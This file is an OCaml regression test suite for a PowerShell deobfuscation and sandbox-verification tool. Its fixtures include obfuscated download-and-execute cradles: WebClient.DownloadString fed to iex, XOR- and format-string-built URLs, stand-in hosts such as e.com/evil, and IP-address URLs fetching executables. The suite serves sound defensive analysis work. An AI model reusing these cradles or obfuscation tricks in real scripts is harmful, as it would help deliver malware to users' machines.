(* Regression suite: every bug found while building this reproduction, as a
   minimal failing case.  Each test names the original symptom. *)

module Value = Psvalue.Value

let check_s = Alcotest.(check string)
let check_b = Alcotest.(check bool)
let check_i = Alcotest.(check int)

let eval_str src =
  let env = Pseval.Env.create () in
  match Pseval.Interp.invoke_piece env src with
  | Ok v -> Value.to_string v
  | Error msg -> Alcotest.fail (src ^ " -> " ^ msg)

let valid = Psparse.Parser.is_valid_syntax

(* the lexer treated `-contains`'s leading 'c' as the case-sensitivity
   prefix, leaving a nonexistent '-ontains' operator *)
let test_contains_not_case_prefixed () =
  check_b "contains parses" true (valid "(1,2,3) -contains 2");
  check_b "isnot parses" true (valid "$x -isnot [int]");
  check_s "contains evaluates" "True" (eval_str "(1,2,3) -contains 2");
  (* explicit prefixes still work *)
  check_s "ccontains is case-sensitive" "False" (eval_str "('A') -ccontains 'a'");
  check_s "contains is caseless" "True" (eval_str "('A') -contains 'a'")

(* commas inside method-call argument lists were folded into one array
   argument, so ToInt32($_, 16) saw a single Object[] *)
let test_method_args_not_array () =
  check_i "two args" 104 (int_of_string (eval_str "[convert]::ToInt32('68',16)"))

(* the RHS of an assignment lexed in expression mode, so `$x = write-host 1`
   tokenized write-host as an argument *)
let test_assignment_rhs_command_context () =
  check_b "rhs command" true (valid "$x = write-host hello");
  check_s "rhs command canonicalised" "$x = Write-Host hello"
    (Deobf.Token_phase.run "$x = wRiTe-HoSt hello")

(* '%' at command position is the ForEach-Object alias, not modulo *)
let test_percent_alias () =
  check_s "percent" "2" (eval_str "(1 | % { $_ * 2 }) -join ''")

(* whitespace after '.'/'::' before a member name is legal PowerShell *)
let test_member_spacing () =
  check_b "space after dot" true (valid "$a. Length");
  check_b "space after colons" true (valid "[convert]:: ToInt32('1',10)")

(* `powershell -enc <b64>` with the value as a separate bareword argument
   was not recognised by the static unwrapper *)
let test_enc_param_separate_argument () =
  let b64 = Encoding.Base64.encode (Encoding.Utf16.encode "write-host e2e") in
  let out =
    Pipeline.output (Printf.sprintf "powershell -eNc %s" b64)
  in
  check_b "unwrapped" true
    (Pscommon.Strcase.contains ~needle:"write-host e2e" out)

(* renaming desynchronised outer variables from names defined inside a
   still-encoded IEX payload *)
let test_rename_skipped_with_residual_payload () =
  let script =
    "$c2 = 'http://live.example/t'\n\
     $k = '71-71'\n\
     for ($i = 0; $i -lt 2; $i++) {\n\
     $p = '16-74'\n\
     Invoke-Expression ((($k + $p) -split '-' | ForEach-Object { [char]($_ -bxor '0x67') }) -join '')\n\
     }"
  in
  let out = Pipeline.output script in
  check_b "original variable names kept" true
    (Pscommon.Strcase.contains ~needle:"$c2" out)

(* a literal Invoke-Expression payload counted as safe, yet its code
   assigns $stage, which the script reads: renaming desynchronised the
   two, and the gate had to roll finalization back *)
let test_rename_skipped_with_literal_payload () =
  let script =
    "$a = 'x'\n\
     . ('iex') ('$stage = ''http://e.com/p.txt''')\n\
     (New-Object Net.WebClient).DownloadString($stage)\n"
  in
  let options =
    { Deobf.Engine.default_options with
      recovery = { Deobf.Recover.default_options with use_multilayer = false } }
  in
  check_b "payload's variable kept" true
    (Pscommon.Strcase.contains ~needle:"($stage)"
       (Pipeline.output ~options script));
  (match (fst (Pipeline.run ~options ~verify:true script)).Deobf.Batch.verdict with
  | Some v -> check_s "verdict" "equivalent" (Deobf.Verify.verdict_name v)
  | None -> Alcotest.fail "no verdict");
  (* a payload naming only its own variables cannot desynchronise them *)
  let own =
    "$kJh7qZ = 'http://e.com/a'\n\
     . ('iex') ('$own = ''http://e.com/p.txt''')\n\
     (New-Object Net.WebClient).DownloadString($kJh7qZ)\n"
  in
  check_b "script's variable renamed" true
    (Pscommon.Strcase.contains ~needle:"$var0 = " (Pipeline.output ~options own));
  (* a payload that assigns a name renaming would write, runs code built
     from a string naming the script's variable, splats that variable, or
     names a function the script defines (or one renaming would write):
     renaming would hand the payload's name to the script, or take the
     script's name away from the payload *)
  List.iter
    (fun (name, script, kept) ->
      check_b name true
        (Pscommon.Strcase.contains ~needle:kept (Pipeline.output ~options script)))
    [ ( "payload assigns $var0",
        "$kJh7qZ = 'http://e.com/a'\n\
         . ('iex') ('$var0 = ''http://e.com/evil''')\n\
         (New-Object Net.WebClient).DownloadString($kJh7qZ)\n",
        "$kJh7qZ = " );
      ( "payload runs code built from a variable",
        "$kJh7qZ = 'http://e.com/a'\n\
         . ('iex') ('$c = ''(New-Object Net.WebClient).DownloadString($kJh7qZ)''; iex $c')\n",
        "$kJh7qZ = " );
      ( "payload splats the script's variable",
        "$kJh7qZ = @{ Uri = 'http://e.com/a' }\n\
         . ('iex') ('Invoke-WebRequest @kJh7qZ')\n",
        "$kJh7qZ = " );
      ( "payload calls the script's function",
        "function xQzkJp { 'http://e.com/a' }\n\
         . ('iex') ('(New-Object Net.WebClient).DownloadString((xQzkJp))')\n",
        "function xQzkJp" );
      ( "payload defines func0",
        "function xQzkJp { 'http://e.com/a' }\n\
         . ('iex') ('function func0 { ''http://e.com/evil'' }')\n\
         (New-Object Net.WebClient).DownloadString((xQzkJp))\n",
        "function xQzkJp" ) ]

(* replacing a decoded byte array with an int-literal list exploded a 685 KB
   sample into 1.1 MB of digits *)
let test_recovery_never_grows_pieces () =
  let rng = Pscommon.Rng.of_int 2 in
  let ob =
    Obfuscator.Obfuscate.apply rng Obfuscator.Technique.Enc_ascii
      "write-host growth-check"
  in
  let out = Pipeline.output ob in
  check_b "output smaller than input" true (String.length out <= String.length ob)

(* ticking inside command ARGUMENTS (listing 2's nET.wE`bcLiEnT) survived
   the token phase *)
let test_argument_ticks_removed () =
  check_s "argument de-ticked" "New-Object Net.WebClient"
    (Deobf.Token_phase.run "nEw-oBjEcT nET.wE`bcLiEnT")

(* backtick escape letters outside strings are literal: we`bclient must not
   become a backspace *)
let test_bareword_backtick_literal () =
  let toks = Pslex.Lexer.tokenize_exn "we`bclient" in
  check_s "literal b" "webclient" (List.hd toks).Pslex.Token.content

(* `$a = 1 $b = 2` on one line is a syntax error, not two statements *)
let test_statement_separator_required () =
  check_b "missing separator rejected" true (not (valid "$a = 1 $b = 2"));
  check_b "blocks chain freely" true (valid "function f {} function g {}")

(* statement-level `$i++` must not emit its value into the output stream *)
let test_increment_statement_silent () =
  check_s "no spurious output" "6" (eval_str "$i = 5; $i++; $i")

(* the whitespace encoder could not represent newlines (codes < 32) *)
let test_whitespace_encoding_multiline_payload () =
  let rng = Pscommon.Rng.of_int 77 in
  let payload = "write-host a\nwrite-host b" in
  let ob = Obfuscator.Obfuscate.apply rng Obfuscator.Technique.Enc_whitespace payload in
  let report = Sandbox.run ob in
  Alcotest.(check (list string))
    "both lines execute" [ "a"; "b" ]
    (List.map Value.to_string report.Sandbox.host_output)

(* hash literals after a ';' inside @{ } lexed keys in the wrong context *)
let test_hash_multiple_entries () =
  check_s "second entry readable" "two"
    (eval_str "$h = @{a=1;b='two'}; $h['b']")

(* New-Object Type(a, b) passes its parenthesised list as -ArgumentList *)
let test_new_object_paren_arguments () =
  let payload = "write-output 'ctor-args'" in
  let b64 = Encoding.Base64.encode (Encoding.Deflate.deflate payload) in
  check_s "deflate ctor chain" payload
    (eval_str
       (Printf.sprintf
          "(New-Object IO.StreamReader((New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('%s'),[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd()"
          b64))

(* range after a value: 1..3 used to die as a malformed number *)
let test_range_after_value () =
  check_s "range" "123" (eval_str "(1..3) -join ''")

(* the verify sandbox reported an exhausted step budget as a script error,
   so a reference run cut short mid-decode was compared as if the script
   had finished, and the gate called a correct unwrap "diverged".  Found on
   sample 60 of [generate_hard ~seed:4243] (198 552 bytes: a 66 378-element
   hex decode around a whitespace decoder).  A piece and the gate's runs
   now share one budget rule, so the repro cuts the reference run short
   with a top-level loop the script's own budget cannot finish, before the
   IEX whose unwrap recovery keeps. *)
let test_step_budget_is_containment () =
  check_b "a run cut short by the step budget is unverifiable" true
    (Result.is_error
       (Sandbox.run_for_verify ~max_steps:1000
          "foreach ($i in 1..100000) { $x = $i }\nWrite-Output 'done'"));
  let hex =
    String.concat ":"
      (List.map
         (fun c -> Printf.sprintf "%x" (Char.code c))
         (List.of_seq (String.to_seq "Write-Output 'hi'")))
  in
  let src =
    Printf.sprintf
      "for ($i = 0; $i -lt 1000000; $i++) { }\n\
       iex ((('%s') -split ':' | ForEach-Object { [char][convert]::ToInt32($_, 16) }) -join '')\n"
      hex
  in
  let g, o = Deobf.Verify.run_guarded src in
  check_b "the unwrap is kept" true
    (String.ends_with ~suffix:"\n'hi'\n"
       g.Deobf.Engine.result.Deobf.Engine.output);
  check_s "verdict" "unverifiable" (Deobf.Verify.verdict_name o.Deobf.Verify.verdict)

(* the gate ran every sandbox run under a flat 400 000 steps while a
   recovery piece got 40 more per byte of its text, so a large legitimate
   sample passed recovery and ended unverifiable on cost alone.  Found on
   sample 1488 of [generate_multilayer ~seed:402] (415 355 bytes): its
   reference run needs more than the flat budget, and less than the one
   its size earns. *)
let test_large_sample_verifies () =
  let s =
    List.nth
      (Corpus.Generator.generate_multilayer ~seed:402 ~count:1500 ~min_depth:1
         ~max_depth:4)
      1488
  in
  let src = s.Corpus.Generator.obfuscated in
  check_b "the flat budget cannot finish its reference run" true
    (Result.is_error (Sandbox.run_for_verify ~max_steps:400_000 src));
  let o, _ = Deobf.Batch.run_source ~verify:true ~name:"ml402-1488" src in
  check_s "verdict" "equivalent"
    (match o.Deobf.Batch.verdict with
    | Some v -> Deobf.Verify.verdict_name v
    | None -> "none")

(* the sandbox logged an unknown command under the name as written, so
   the token phase's alias expansion (iwmi -> Invoke-WmiMethod) read as a
   behavioural divergence and the gate rolled it back *)
let test_alias_expansion_not_divergent () =
  List.iter
    (fun (src, expected) ->
      let g, o = Deobf.Verify.run_guarded src in
      check_s (src ^ " verdict") "equivalent"
        (Deobf.Verify.verdict_name o.Deobf.Verify.verdict);
      check_s (src ^ " output") expected
        g.Deobf.Engine.result.Deobf.Engine.output)
    [ ( "iwmi -Class Win32_Process -Name Create | Out-Null",
        "Invoke-WmiMethod -class Win32_Process -name Create | Out-Null\n" );
      ( "$a = 'he'+'llo'; iwmi $a | Out-Null",
        "$a = 'hello'\nInvoke-WmiMethod 'hello' | Out-Null\n" ) ]

(* A variable-tracer binding went stale across an unwrapped payload: $u is
   assigned from a -f piece, then `.($pshome[4]+$pshome[30]+'x') (…)` runs
   a payload that reassigns $u, and the unverified output substitutes the
   old URL into the second DownloadString($u).  Sample 472 of
   [generate_hard ~seed:11] (ROADMAP item 1).  The gate catches it: the
   substitution is rolled back.  The tracer fix itself changes outputs and
   is left to that item, so this pins both halves as they stand. *)
let stale_binding_sample =
  "$u = (\"{4}{2}{0}{3}{1}\" -f '109.179','1.85/fasthexhex.exe','://','.11','http')\n\
   $c = (New-Object Net.WebClient).DownloadString($u)\n\
   iex $c\n\
   ${-=%.} = '$u = ''';${@&} = (\"{0}{3}{1}{4}{2}\" -f 'h','ps:','/','tt','/');${@!*} = '29.';${+#} = '85.91.74/malsky.txt''';.($pshome[4]+$pshome[30]+'x') (${-=%.}+${@&}+${@!*}+${+#})\n\
   $c = (New-Ob`je`ct Net.WebClient).DownloadString($u)\n\
   iex $c\n"

let second_download output =
  match
    List.filter
      (fun l -> Pscommon.Strcase.contains ~needle:"DownloadString" l)
      (String.split_on_char '\n' output)
  with
  | _ :: second :: _ -> second
  | _ -> Alcotest.fail ("fewer than two DownloadString calls in\n" ^ output)

let test_gate_catches_stale_binding () =
  let stale = "http://109.179.111.85/fasthexhex.exe" in
  let g, o = Deobf.Verify.run_guarded stale_binding_sample in
  check_s "verdict" "rolled_back" (Deobf.Verify.verdict_name o.Deobf.Verify.verdict);
  check_b "substitution rolled back" true
    (List.mem "recover.substitute" o.Deobf.Verify.rolled_rules);
  check_b "verified output does not pass the stale URL" false
    (Pscommon.Strcase.contains ~needle:stale
       (second_download g.Deobf.Engine.result.Deobf.Engine.output));
  check_b "unverified output passes the stale URL" true
    (Pscommon.Strcase.contains ~needle:stale
       (second_download (Pipeline.output stale_binding_sample)))

(* The tool row of the paper tables, the report and the request path are
   one path: on the stale-binding sample they emit the verified output,
   which does not pass the stale URL. *)
let test_one_path_on_stale_binding () =
  let stale = "http://109.179.111.85/fasthexhex.exe" in
  let _, served =
    Deobf.Batch.run_source ~verify:true ~name:"stale" stale_binding_sample
  in
  let tool =
    (Baselines.All_tools.invoke_deobfuscation.Baselines.Tool.deobfuscate
       stale_binding_sample)
      .Baselines.Tool.result
  in
  let report = Deobf.Report.analyze ~verify:true stale_binding_sample in
  check_s "tool row" served tool;
  check_s "report" served report.Deobf.Report.output;
  (* the report's gate figures come from the request's trace *)
  (match report.Deobf.Report.verify with
  | Some g ->
      check_s "report verdict" "rolled_back"
        (Deobf.Verify.verdict_name g.Deobf.Report.verdict);
      check_i "report rolled back" 1 g.Deobf.Report.rolled_back;
      check_b "report sandbox runs" true (g.Deobf.Report.sandbox_runs >= 2)
  | None -> Alcotest.fail "report has no verify block");
  check_b "no stale URL" false
    (Pscommon.Strcase.contains ~needle:stale (second_download served))

(* Byte-identity guard for evaluator changes: 400 seeded samples from the
   four generators through [Batch.run_source ~verify:true] with one shared
   cache, digested over outputs, verdicts and recovery counts.  A change
   that alters any output, verdict or count moves the digest; update the
   constant only for a change that means to alter one. *)
let golden_digest = "e61de33c320cf7e6879e91440f0a93c9"

let test_golden_snapshot () =
  let module G = Corpus.Generator in
  let samples =
    G.generate ~seed:71 ~count:160
    @ G.generate_hard ~seed:72 ~count:80
    @ G.generate_multilayer ~seed:73 ~count:80 ~min_depth:1 ~max_depth:4
    @ G.generate_dynamic ~seed:74 ~count:80
  in
  let cache = Deobf.Recover.Cache.create () in
  let buf = Buffer.create (1 lsl 20) in
  List.iter
    (fun (s : G.sample) ->
      let o, output =
        Deobf.Batch.run_source ~cache ~verify:true ~name:"golden" s.G.obfuscated
      in
      let st = o.Deobf.Batch.stats in
      Buffer.add_string buf output;
      Buffer.add_char buf '\000';
      Buffer.add_string buf
        (match o.Deobf.Batch.verdict with
        | Some v -> Deobf.Verify.verdict_name v
        | None -> "none");
      List.iter
        (fun n -> Buffer.add_string buf (Printf.sprintf " %d" n))
        Deobf.Recover.
          [ st.pieces_recovered; st.variables_substituted; st.layers_unwrapped;
            st.pieces_attempted; st.pieces_blocked; st.cache_hits;
            st.edits_recorded; st.dynamic_attempted; st.dynamic_recovered;
            st.dynamic_unverifiable ];
      Buffer.add_char buf '\n')
    samples;
  check_i "samples" 400 (List.length samples);
  check_s "digest" golden_digest (Digest.to_hex (Digest.string (Buffer.contents buf)))

let suite =
  [
    ("-contains prefix", `Quick, test_contains_not_case_prefixed);
    ("method args not array", `Quick, test_method_args_not_array);
    ("assignment rhs command", `Quick, test_assignment_rhs_command_context);
    ("percent alias", `Quick, test_percent_alias);
    ("member spacing", `Quick, test_member_spacing);
    ("enc param separate argument", `Quick, test_enc_param_separate_argument);
    ("rename skipped with residual payload", `Quick, test_rename_skipped_with_residual_payload);
    ("rename skipped with literal payload", `Quick, test_rename_skipped_with_literal_payload);
    ("recovery never grows", `Quick, test_recovery_never_grows_pieces);
    ("argument ticks removed", `Quick, test_argument_ticks_removed);
    ("bareword backtick literal", `Quick, test_bareword_backtick_literal);
    ("statement separator required", `Quick, test_statement_separator_required);
    ("increment statement silent", `Quick, test_increment_statement_silent);
    ("whitespace encoding multiline", `Quick, test_whitespace_encoding_multiline_payload);
    ("hash multiple entries", `Quick, test_hash_multiple_entries);
    ("new-object paren arguments", `Quick, test_new_object_paren_arguments);
    ("range after value", `Quick, test_range_after_value);
    ("step budget is containment", `Quick, test_step_budget_is_containment);
    ("large sample verifies", `Quick, test_large_sample_verifies);
    ("alias expansion not divergent", `Quick, test_alias_expansion_not_divergent);
    ("gate catches stale binding", `Quick, test_gate_catches_stale_binding);
    ("one path on stale binding", `Quick, test_one_path_on_stale_binding);
    ("golden output snapshot", `Quick, test_golden_snapshot);
  ]
